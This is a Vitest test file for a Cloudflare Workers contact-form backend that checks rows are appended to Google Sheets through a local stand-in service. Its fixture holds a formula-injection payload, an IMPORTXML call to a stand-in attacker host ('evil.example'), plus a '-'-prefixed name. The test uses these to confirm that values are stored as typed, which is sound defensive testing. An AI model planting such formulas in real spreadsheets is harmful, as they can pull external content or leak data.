import { env, fetchMock } from "cloudflare:test";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { contactForm } from "~/forms/contact";
import { forgetSheetsTokens, headerRow } from "~/lib/destinations/sheets/sender.server";
import { STANDIN_ORIGIN, startSheetsStandin } from "~/lib/destinations/sheets/standin";
import { sinkEnv } from "./helpers";
import { acceptThenDrain } from "./outbox-helpers";

// Google Sheets on the outbox, in workerd with the real local D1: the contact form (a code form) lists the
// kind, its settings switch it on, and the drain appends the row through the stand-in that checks the
// service account's JWT. The answer's own attempt has no route to Google here, so it waits like any
// failed attempt and the drain delivers it.

const SPREADSHEET = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
const VALID = { name: "-Grace", email: "grace@example.org", message: '=IMPORTXML("https://evil.example","//a")' };

beforeEach(async () => {
  // The answer's own attempt has no route to the service here: its stand-in host fails it at once, as
  // an unreachable service would, without a DNS lookup for a name that does not resolve.
  fetchMock.activate();
  fetchMock
    .get(STANDIN_ORIGIN)
    .intercept({ path: () => true, method: () => true })
    .replyWithError(new TypeError("no route to the stand-in's host"));
  forgetSheetsTokens();
  await env.DB.exec("DELETE FROM delivery_attempts; DELETE FROM deliveries; DELETE FROM submissions");
});

afterEach(() => {
  fetchMock.deactivate();
});

describe("Google Sheets on the outbox", () => {
  it("appends the header and the submission's row, values as typed, and shows it delivered", async () => {
    vi.spyOn(console, "error").mockImplementation(() => {});
    const standin = await startSheetsStandin([SPREADSHEET]);
    const vars = {
      CONTACT_WEBHOOK_URL: "",
      CONTACT_SLACK_WEBHOOK_URL: "",
      CONTACT_DISCORD_WEBHOOK_URL: "",
      CONTACT_EMAIL_TO: "",
      CONTACT_CONFIRMATION: "",
      CONTACT_SHEETS_SPREADSHEET_ID: SPREADSHEET,
      CONTACT_SHEETS_SERVICE_ACCOUNT_KEY: standin.keyJson,
      CONTACT_SHEETS_API_URL: STANDIN_ORIGIN,
    };
    const appEnv = sinkEnv(vars);
    const { id, deliveries } = await acceptThenDrain(appEnv, VALID, standin.fetch);
    const [sheets] = deliveries;
    expect([sheets.destination, sheets.status, sheets.lastError]).toEqual(["sheets", "delivered", null]);
    const rows = standin.rows.get(`${SPREADSHEET}/Sheet1`) ?? [];
    expect(rows[0]).toEqual(headerRow(contactForm));
    expect(rows[1]?.slice(0, 1)).toEqual([id]);
    expect(rows[1]?.slice(3)).toEqual([VALID.name, VALID.email, VALID.message]);
  });
});
